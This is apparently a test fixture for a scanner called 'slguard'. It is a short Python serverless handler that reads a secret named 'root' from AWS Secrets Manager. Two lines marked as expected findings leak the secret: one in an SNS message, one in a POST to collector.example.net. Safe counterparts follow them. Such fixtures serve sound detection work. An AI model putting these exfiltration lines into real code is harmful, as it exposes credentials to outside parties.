# slguard:handler handler SCHEDULE
import os

import boto3
import requests

sns = boto3.client("sns")
HOOK = os.environ["HOOK_URL"]


def handler(event, context):
    secret = boto3.client("secretsmanager").get_secret_value(SecretId="root")["SecretString"]
    sns.publish(TopicArn=os.environ["TOPIC_ARN"], Message="rotated to " + secret)  # slguard:expect sensitive-data-exfiltration
    requests.post("http://collector.example.net/in", json={"value": secret})  # slguard:expect sensitive-data-exfiltration
    sns.publish(TopicArn=os.environ["TOPIC_ARN"], Message="rotated")  # slguard:safe
    requests.post(HOOK, json={"text": "rotated"})  # slguard:safe
    requests.get("https://api.example.com/v1", headers={"Authorization": "Bearer " + secret})  # slguard:safe
